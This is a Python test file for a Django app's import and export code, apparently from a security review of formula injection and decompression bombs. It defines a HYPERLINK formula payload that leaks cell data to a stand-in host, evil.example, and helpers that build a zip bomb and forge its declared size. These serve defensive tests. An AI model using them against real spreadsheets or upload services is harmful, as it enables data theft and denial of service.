"""Findings 2 and 3 of the security review: formula injection through a leading
control character, and the spreadsheet bomb."""

from __future__ import annotations

import io
import struct
import zipfile

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from organizations.imports import FileRejected, check_upload, clean_text, count_rows
from organizations.imports.services import _expands_past_request_limit, import_job_create
from organizations.models import Member, Organization
from organizations.resources import table_response, write_xlsx
from tests.conftest import World
from tests.factories import MemberFactory
from tests.organizations.test_io_support import body
from tests.utils import client_for

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def cells(content: bytes) -> list[openpyxl.cell.Cell]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for row in book.worksheets[0].iter_rows() for cell in row]


def assert_no_formula(content: bytes) -> None:
    for cell in cells(content):
        assert cell.data_type != "f", cell.value
        assert not (isinstance(cell.value, str) and cell.value.startswith("=")), cell.value


@pytest.mark.parametrize("lead", ["\x01", "\x08", "\x1f", "\x0b"])
def test_a_leading_control_character_does_not_make_a_live_formula(lead: str) -> None:
    handle = write_xlsx("t", ["name"], [[lead + PAYLOAD]])
    content = handle.read()
    assert_no_formula(content)
    values = [c.value for c in cells(content)]
    assert "'" + PAYLOAD in values


def test_the_grid_export_is_neutralized_after_cleaning_too() -> None:
    response = table_response(
        title="grid", headers=["org"], rows=[["\x01" + PAYLOAD]], fmt="xlsx", filename="grid"
    )
    assert_no_formula(body(response))


@pytest.mark.parametrize("lead", ["\x01", "\x08"])
def test_text_fields_never_store_control_characters(world: World, lead: str) -> None:
    member = MemberFactory(organization=world.own, name=lead + "王" + lead + "伟")
    member.refresh_from_db()
    assert member.name == "王伟"
    org = Organization.objects.get(pk=world.own.pk)
    org.short_name = lead + PAYLOAD[:30]
    org.save()
    org.refresh_from_db()
    assert org.short_name == PAYLOAD[:30]


def test_a_member_name_with_a_control_character_exports_as_text(world: World) -> None:
    # Written the way an importer's bulk write or an old row could hold it.
    member = MemberFactory(organization=world.own, name="x")
    Member.objects.filter(pk=member.pk).update(name="\x01" + PAYLOAD[:40])
    response = client_for(world, "secretary").get("/io/export/members.xlsx")
    assert response.status_code == 200, response.status_code
    assert_no_formula(body(response))


def test_the_importer_drops_control_characters() -> None:
    assert clean_text("\x01" + PAYLOAD) == PAYLOAD
    assert clean_text("王\x08伟") == "王伟"


def test_the_public_suggestion_box_strips_control_characters(world: World) -> None:
    from django.core.cache import cache
    from django.test import Client

    from activities.models import Opinion
    from tests.activities.opinions_factories import campaigns_for
    from tests.activities.test_public_box import make_box, submit

    cache.clear()
    campaigns_for(world)
    box = make_box(world.own, intro="")
    response = submit(Client(), box, content="\x01" + PAYLOAD, submitter_name="\x08=1+1")
    assert response.status_code == 200
    opinion = Opinion.objects.get()
    assert opinion.content == PAYLOAD
    assert opinion.submitter_name == "=1+1"


# --- the spreadsheet bomb ----------------------------------------------------------------


def workbook_bytes(rows: int = 3) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["姓名", "身份证号"])
    for i in range(rows):
        sheet.append([f"党员{i}", "x"])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def with_part(data: bytes, name: str, content: bytes) -> bytes:
    """The workbook with one part replaced (or added), compressed."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as src,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst,
    ):
        for item in src.infolist():
            if item.filename != name:
                dst.writestr(item, src.read(item.filename))
        dst.writestr(name, content)
    return out.getvalue()


def bomb(megabytes: int) -> bytes:
    strings = b"<si><t>" + b"A" * 1000 + b"</t></si>"
    body_ = strings * (megabytes * 1024 * 1024 // len(strings))
    xml = (
        b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        + body_
        + b"</sst>"
    )
    return with_part(workbook_bytes(), "xl/sharedStrings.xml", xml)


def upload(data: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile("roster.xlsx", data)


def test_a_highly_compressed_part_is_refused_before_parsing(settings) -> None:
    data = bomb(8)
    assert len(data) < 200 * 1024  # a small upload...
    with pytest.raises(FileRejected) as refused:
        check_upload(io.BytesIO(data), len(data))
    assert "expands" in refused.value.message


def test_a_part_past_the_size_limit_is_refused(settings) -> None:
    settings.IMPORT_XLSX_MAX_RATIO = 100_000
    settings.IMPORT_XLSX_MAX_PART_MB = 4
    data = bomb(6)
    with pytest.raises(FileRejected):
        check_upload(io.BytesIO(data), len(data))


def test_a_forged_declared_size_does_not_help(settings) -> None:
    settings.IMPORT_XLSX_MAX_RATIO = 100_000
    data = bytearray(bomb(3))
    # Rewrite the central directory's "uncompressed size" of the shared strings to 10.
    name = b"xl/sharedStrings.xml"
    at = data.find(b"PK\x01\x02" + bytes(20)[:0])
    while at != -1:
        name_len = struct.unpack("<H", data[at + 28 : at + 30])[0]
        if data[at + 46 : at + 46 + name_len] == name:
            data[at + 24 : at + 28] = struct.pack("<I", 10)
        at = data.find(b"PK\x01\x02", at + 4)
    with pytest.raises(FileRejected):
        check_upload(io.BytesIO(bytes(data)), len(data))


def test_the_upload_is_refused_by_the_import_service_with_a_clear_message(world: World) -> None:
    with pytest.raises(FileRejected) as refused:
        import_job_create(actor=world.secretary, kind="members", uploaded=upload(bomb(8)))
    assert "Split it into smaller files" in refused.value.message


def test_an_ordinary_workbook_passes_and_its_rows_are_counted_without_loading_it() -> None:
    data = workbook_bytes(rows=120)
    assert check_upload(io.BytesIO(data), len(data)) == "xlsx"
    assert count_rows(io.BytesIO(data), "xlsx") == 121


def test_a_workbook_expanding_past_the_request_limit_is_left_to_the_worker(
    world: World, settings, media_root
) -> None:
    data = workbook_bytes(rows=5)
    job = import_job_create(actor=world.secretary, kind="members", uploaded=upload(data))
    settings.IMPORT_REQUEST_MAX_XML_MB = 16
    assert not _expands_past_request_limit(job)
    settings.IMPORT_REQUEST_MAX_XML_MB = 0
    assert _expands_past_request_limit(job)


def test_openpyxl_parses_xml_with_defusedxml() -> None:
    import openpyxl.xml

    assert openpyxl.xml.DEFUSEDXML is True
